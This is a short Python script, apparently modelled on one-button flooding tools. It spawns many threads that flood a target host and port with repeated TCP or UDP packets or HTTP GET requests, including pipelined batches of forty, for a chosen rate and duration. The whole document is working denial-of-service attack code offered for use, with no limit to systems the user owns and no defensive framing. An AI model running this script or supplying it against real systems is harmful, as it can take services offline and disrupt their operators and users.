#!/usr/bin/python3
"""Floods as the stress tools with a window and one button do: threads that send the same words.
usage: cannon.py tcp|udp|http|pipeline HOST PORT THREADS PER_SECOND SECONDS"""
import socket, sys, threading, time

mode, host, port, threads, rate, length = sys.argv[1], sys.argv[2], *map(int, sys.argv[3:6]), float(sys.argv[6])
end = time.time() + length
WORDS = b"A cat is fine too. Desudesudesu~"


def fire():
    s = None
    while time.time() < end:
        try:
            if mode == "udp":
                s = s or socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                s.sendto(WORDS, (host, port))
            elif mode == "tcp":
                s = s or socket.create_connection((host, port), timeout=4)
                s.send(WORDS)
            else:
                many = 40 if mode == "pipeline" else 1
                s = s if s and mode == "pipeline" else socket.create_connection((host, port), timeout=4)
                s.send(b"GET / HTTP/1.1\r\nHost: %s\r\n\r\n" % host.encode() * many)
                if mode == "pipeline":
                    s.recv(65536)
                else:
                    s.recv(10)
                    s.close()
        except OSError:
            s = None
        time.sleep(1 / rate)


for _ in range(threads):
    threading.Thread(target=fire).start()
